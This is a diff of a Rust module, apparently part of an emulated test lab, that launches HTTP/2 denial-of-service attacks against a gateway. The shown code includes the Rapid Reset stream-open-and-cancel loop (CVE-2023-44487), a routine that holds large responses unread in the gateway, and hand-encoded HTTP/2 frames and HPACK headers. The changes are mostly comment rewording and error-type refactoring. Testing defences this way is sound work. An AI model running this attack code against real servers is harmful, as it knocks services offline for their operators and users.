@@ -1,10 +1,11 @@
-//! Attacks over HTTP/2 on the operator's own site, for which the air gateway answers.
+//! Attacks over HTTP/2 on the operator's own site, which the air gateway serves.
 
 use std::net::SocketAddr;
 use std::sync::Arc;
 use std::sync::atomic::Ordering::Relaxed;
 use std::time::Duration;
 
+use anyhow::anyhow;
 use rustls::pki_types::ServerName;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
@@ -13,23 +14,22 @@ use tokio_rustls::TlsConnector;
 use tokio_rustls::client::TlsStream;
 
 use super::Attack;
-use super::assault::Tally;
+use super::assault::{self, Tally};
 use super::scene::{BIG_PATH, SITE_NAME, SLOW_PATH, Scene};
 use crate::emu::SERVER;
-use crate::experiment::ExperimentError;
-use crate::workload::service::Service;
+use crate::emu::Service;
 
-/// Streams that are asked for on one connection: as many as the gateway allowed at its most generous.
+/// Streams requested on one connection: the largest limit that the gateway has ever allowed.
 const STREAMS: u32 = 100;
-/// Streams that are begun and reset before anything is read.
+/// Streams that are opened and reset before anything is read.
 const RESET_BURST: u32 = 100;
-/// Connections that are set up at once.
+/// Connections that are set up concurrently.
 const OPENING: usize = 16;
 const CONNECT_LIMIT: Duration = Duration::from_secs(20);
-/// Pause before the next connection where one was refused.
+/// Pause before the next connection after a refusal.
 const PAUSE: Duration = Duration::from_millis(50);
 
-// Frames of RFC 9113 section 6.
+// Frame types of RFC 9113, section 6.
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
@@ -41,19 +41,19 @@ const MAX_WINDOW: u32 = i32::MAX as u32;
 const DEFAULT_WINDOW: u32 = 65_535;
 const CANCEL: u32 = 8;
 
-/// Begins `attack` with `connections`.
+/// Starts `attack` with `connections` connections.
 pub fn start(
     scene: &Scene,
     attack: Attack,
     connections: u64,
     tally: Arc<Tally>,
-) -> Result<Service, ExperimentError> {
-    let tls = tls(scene).map_err(|error| ExperimentError::Lab(error.to_string()))?;
-    Ok(Service::start(&scene.attacker.host, move || async move {
+) -> anyhow::Result<Service> {
+    let tls = tls(scene).map_err(|error| anyhow!("{error}"))?;
+    Ok(assault::start(&scene.attacker.host, move || async move {
         let opening = Arc::new(tokio::sync::Semaphore::new(OPENING));
         for number in 0..connections {
             let (tls, tally, opening) = (tls.clone(), tally.clone(), opening.clone());
-            // Nobody closes it.
+            // The semaphore is never closed.
             let Ok(place) = opening.acquire_owned().await else { return };
             tokio::spawn(async move {
                 let opened = timeout(CONNECT_LIMIT, connect(&tls)).await;
@@ -85,7 +85,7 @@ fn tls(scene: &Scene) -> Result<TlsConnector, rustls::Error> {
     Ok(TlsConnector::from(Arc::new(config)))
 }
 
-/// A connection with windows as large as they may be.
+/// Opens a connection with windows of the maximum size.
 async fn connect(tls: &TlsConnector) -> std::io::Result<TlsStream<TcpStream>> {
     let tcp = TcpStream::connect(SocketAddr::new(SERVER.v4.into(), 443)).await?;
     let name = ServerName::try_from(SITE_NAME).map_err(std::io::Error::other)?;
@@ -100,8 +100,8 @@ async fn connect(tls: &TlsConnector) -> std::io::Result<TlsStream<TcpStream>> {
     Ok(stream)
 }
 
-/// Asks for as many objects as there are streams. Of those that are never answered it hears what
-/// becomes of them; of large ones it reads nothing, so that they stay with the gateway.
+/// Requests as many objects as there are streams. For objects without a response, it reads the fate
+/// of the requests. For large objects, it reads nothing, so that they stay in the gateway.
 async fn ask(mut stream: TlsStream<TcpStream>, attack: Attack, number: u64, tally: &Tally) {
     let mut requests = Vec::new();
     for stream in 0..STREAMS {
@@ -123,7 +123,8 @@ async fn ask(mut stream: TlsStream<TcpStream>, attack: Attack, number: u64, tall
     std::future::pending().await
 }
 
-/// Begins streams and resets them, for ever (CVE-2023-44487); on a new connection where one has ended.
+/// Opens streams and resets them, forever (CVE-2023-44487). Opens a new connection if one has
+/// ended.
 async fn reset(tls: &TlsConnector, first: TlsStream<TcpStream>, tally: &Tally) {
     let mut stream = first;
     loop {
@@ -150,8 +151,8 @@ async fn reset(tls: &TlsConnector, first: TlsStream<TcpStream>, tally: &Tally) {
     }
 }
 
-/// A request: HPACK's static table has `:method GET` (2), `:scheme https` (7), the names of `:path` (4)
-/// and of `:authority` (1); RFC 7541 section 6.2.2 for the two values.
+/// A request. HPACK's static table has `:method GET` (2), `:scheme https` (7), and the names of
+/// `:path` (4) and `:authority` (1). The two values are encoded by RFC 7541, section 6.2.2.
 fn headers(stream: u32, path: &str) -> Vec<u8> {
     let mut block = vec![0x82, 0x87];
     for (name, value) in [(4, path), (1, SITE_NAME)] {
